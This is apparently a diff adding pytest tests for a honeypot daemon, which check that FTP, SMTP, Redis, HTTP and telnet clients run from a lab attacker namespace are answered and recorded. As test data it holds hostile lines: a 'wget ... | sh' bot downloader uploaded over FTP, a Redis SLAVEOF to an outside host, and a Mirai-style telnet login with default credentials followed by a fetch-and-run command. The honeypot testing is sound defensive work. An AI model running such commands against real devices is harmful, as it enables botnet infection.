@@ -1,0 +1,231 @@
+"""Real clients against the real daemon (nfq), in the attacker namespace: the shipped dialogues
+carry ftplib, smtplib, redis-cli, curl and a telnet bot past their first exchange, and the
+records keep what they sent."""
+
+from __future__ import annotations
+
+import ftplib
+import hashlib
+import io
+import os
+import smtplib
+import socket
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import download_servers
+import pytest
+from daemon import Honeytrap, nfq_rules
+from netns import Lab, inside
+from test_daemon import connect, payload_of
+
+READ_TIMEOUT = 5  # -r: every banner below must come well before it
+
+
+@pytest.fixture
+def sensor(lab: Lab, tmp_path: Path) -> Iterator[Honeytrap]:
+    nfq_rules(lab.sensor)
+    ht = Honeytrap(lab, tmp_path / "ht",
+                   args=["-u", "nobody", "-g", "nogroup", "-l", "10", "-r", str(READ_TIMEOUT)])
+    yield ht
+    if ht.proc is not None and ht.proc.poll() is None:
+        ht.stop()
+
+
+def dialogue(record: dict[str, object]) -> dict[str, object]:
+    value = record["dialogue"]
+    assert isinstance(value, dict)
+    return value
+
+
+def by_port(records: list[dict[str, object]]) -> dict[int, dict[str, object]]:
+    out = {}
+    for record in records:
+        conn = record["attack_connection"]
+        assert isinstance(conn, dict)
+        out[int(conn["local_port"])] = record
+    return out
+
+
+def read_until(sock: socket.socket, marker: bytes, limit: float = 10.0) -> bytes:
+    """What the sensor sends, up to and including marker."""
+    data = b""
+    deadline = time.monotonic() + limit
+    while marker not in data:
+        sock.settimeout(max(deadline - time.monotonic(), 0.01))
+        chunk = sock.recv(4096)
+        if not chunk:
+            raise AssertionError(f"closed before {marker!r}: {data!r}")
+        data += chunk
+    return data
+
+
+def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, sensor: Honeytrap) -> None:
+    sensor.start()
+    upload = b"#!/bin/sh\nwget http://198.18.0.9/bot -O- | sh\n" * 20
+    with inside(lab.attacker):
+        ftp = ftplib.FTP(timeout=10)  # noqa: S321 - the client under test
+        ftp.connect(lab.sensor.ip4, 21)
+        ftp.login("anonymous", "guest@example.com")
+        assert ftp.pwd() == "/"
+        lines: list[str] = []
+        ftp.dir(lines.append)
+        with pytest.raises(ftplib.error_perm, match="^550 "):
+            ftp.retrbinary("RETR secret.txt", lambda _: None)
+        stored = ftp.storbinary("STOR bot.sh", io.BytesIO(upload))
+        ftp.quit()
+    assert any(line.endswith(" welcome.msg") for line in lines), lines
+    assert stored.startswith("226 ")
+    [record] = sensor.wait_records(1)
+    sent = payload_of(record)
+    assert b"USER anonymous\r\nPASS guest@example.com\r\n" in sent and b"STOR bot.sh\r\n" in sent
+    info = dialogue(record)
+    assert info["protocol"] == "ftp"
+    fields = info["fields"]
+    assert isinstance(fields, dict)
+    assert bytes.fromhex(fields["data_received"]) == upload
+    assert {"USER", "PASS", "PASV", "LIST", "RETR", "STOR", "QUIT"} <= set(fields["commands"])
+
+
+def test_ftp_data_port_refuses_anyone_but_the_client(lab: Lab, sensor: Honeytrap) -> None:
+    """The passive port is offered to the control connection's client only."""
+    sensor.start()
+    with inside(lab.attacker):
+        ftp = ftplib.FTP(timeout=10)  # noqa: S321 - the client under test
+        ftp.connect(lab.sensor.ip4, 21)
+        ftp.login("u", "p")
+        host, port = ftplib.parse227(ftp.sendcmd("PASV"))  # noqa: S321
+    assert host == lab.sensor.ip4
+    other = connect(lab.sensor, lab.sensor.ip4, port)  # the sensor itself: not the client
+    other.settimeout(5)
+    assert other.recv(100) == b""  # closed unread
+    other.close()
+    ftp.close()
+
+
+def test_smtplib_sends_a_message_whose_body_is_recorded(lab: Lab, sensor: Honeytrap) -> None:
+    sensor.start()
+    body = "Subject: invoice\r\n\r\nclick http://198.18.0.9/pay\r\n.dot-stuffed line\r\n"
+    with inside(lab.attacker):
+        client = smtplib.SMTP(lab.sensor.ip4, 25, timeout=10)
+        client.ehlo("bot.example")
+        refused = client.sendmail("a@example.com", ["b@example.org"], body)
+        client.quit()
+    assert refused == {}
+    [record] = sensor.wait_records(1)
+    sent = payload_of(record)
+    assert b"click http://198.18.0.9/pay\r\n..dot-stuffed line\r\n.\r\n" in sent
+    assert dialogue(record)["protocol"] == "smtp"
+
+
+def test_redis_cli_ping_prints_pong_and_info_names_a_version(lab: Lab, sensor: Honeytrap) -> None:
+    sensor.start()
+    assert lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "PING").strip() == "PONG"
+    info = lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "INFO", "server")
+    assert "redis_version:" in info
+    out = lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "SLAVEOF", "198.18.0.9", "6379")
+    assert out.strip() == "OK"
+    records = sensor.wait_records(3)
+    assert {dialogue(r)["protocol"] for r in records} == {"redis"}
+
+
+def test_telnet_bot_logs_in_and_its_download_line_is_fetched(lab: Lab, tmp_path: Path) -> None:
+    root = tmp_path / "www"
+    root.mkdir()
+    sample = os.urandom(20_000)
+    (root / "x").write_bytes(sample)
+    port = download_servers.start(lab, lab.attacker, "http", str(root), lab.attacker.ip4,
+                                  "plain", str(tmp_path / "http.log"))
+    nfq_rules(lab.sensor)
+    ht = Honeytrap(lab, tmp_path / "ht", args=["-u", "nobody", "-g", "nogroup", "-l", "10"])
+    ht.extra_config = 'download_allow = ["198.18.0.0/15"]'
+    ht.plugins = f"""
+plugin-httpDownload = ""
+plugin-SaveFile = {{ attacks_dir = "{ht.attacks_dir}" downloads_dir = "{ht.downloads_dir}" }}
+plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
+"""
+    ht.start()
+    try:
+        bot = connect(lab.attacker, lab.sensor.ip4, 23)
+        banner = read_until(bot, b"login: ")
+        assert banner.startswith(b"\xff\xfb\x01")  # RFC 854 negotiation first
+        bot.sendall(b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18root\r\n")  # Mirai-style
+        read_until(bot, b"Password: ")
+        bot.sendall(b"xc3511\r\n")
+        read_until(bot, b"# ")
+        bot.sendall(b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n")
+        read_until(bot, b"ECCHI: applet not found")
+        line = f"cd /tmp; wget http://{lab.attacker.ip4}:{port}/x; sh x\r\n".encode()
+        bot.sendall(line)
+        read_until(bot, b"# ")
+        bot.close()
+        [record] = ht.wait_records(1, timeout=60)
+    finally:
+        assert ht.stop() == 0
+    assert line in payload_of(record)
+    assert dialogue(record)["protocol"] == "telnet"
+    assert record["download_count"] == 1
+    md5 = hashlib.md5(sample).hexdigest()
+    assert (ht.downloads_dir / md5).read_bytes() == sample
+
+
+def test_curl_gets_404_keep_alive_and_http_on_a_port_without_template(
+    lab: Lab, sensor: Honeytrap
+) -> None:
+    sensor.start()
+    base = f"http://{lab.sensor.ip4}"
+    out = lab.attacker.cmd("curl", "-s", "-o", "/dev/null", "-o", "/dev/null",
+                           "-w", "%{http_code} %{num_connects}\n", f"{base}/", f"{base}/no/such")
+    assert out.split("\n")[:2] == ["200 1", "404 0"]  # the second request reused the connection
+    head = lab.attacker.cmd("curl", "-s", "-I", f"{base}/")
+    assert head.startswith("HTTP/1.1 200 OK\r\n") and "\r\nDate: " in head
+    other = lab.attacker.cmd("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
+                             f"{base}:7070/admin")
+    assert other == "404"  # port 7070 has no template: detected as HTTP
+    records = by_port(sensor.wait_records(3))
+    assert dialogue(records[7070])["protocol"] == "http"
+    fields = dialogue(records[7070])["fields"]
+    assert isinstance(fields, dict) and fields["detected"] == "http"
+
+
+def test_a_silent_client_on_a_port_without_template_gets_silence(
+    lab: Lab, sensor: Honeytrap
+) -> None:
+    sensor.start()
+    sock = connect(lab.attacker, lab.sensor.ip4, 7071)
+    sock.settimeout(READ_TIMEOUT + 1)
+    with pytest.raises(TimeoutError):
+        sock.recv(100)  # no newline, after a read timeout and more
+    sock.close()
+    [record] = sensor.wait_records(1)
+    assert dialogue(record)["protocol"] == "none"
+
+
+@pytest.mark.parametrize("port", [21, 23, 25, 110, 143])
+def test_server_speaks_first_banners_arrive_well_under_the_read_timeout(
+    lab: Lab, sensor: Honeytrap, port: int
+) -> None:
+    sensor.start()
+    start = time.monotonic()
+    sock = connect(lab.attacker, lab.sensor.ip4, port)
+    sock.settimeout(READ_TIMEOUT)
+    first = sock.recv(100)
+    elapsed = time.monotonic() - start
+    sock.close()
+    assert first
+    assert elapsed < READ_TIMEOUT / 4, elapsed  # no read timeout waited for
+
+
+def test_urgent_data_stays_in_the_record(lab: Lab, sensor: Honeytrap) -> None:
+    """lftp's ABOR: IAC IP, then IAC DM with the DM byte urgent (RFC 959 4.1.3)."""
+    sensor.start()
+    sock = connect(lab.attacker, lab.sensor.ip4, 21)
+    read_until(sock, b"\r\n")
+    sock.sendall(b"\xff\xf4\xff")
+    sock.send(b"\xf2", socket.MSG_OOB)
+    sock.sendall(b"ABOR\r\n")
+    read_until(sock, b"\r\n")
+    sock.close()
+    [record] = sensor.wait_records(1)
+    assert payload_of(record) == b"\xff\xf4\xff\xf2ABOR\r\n"
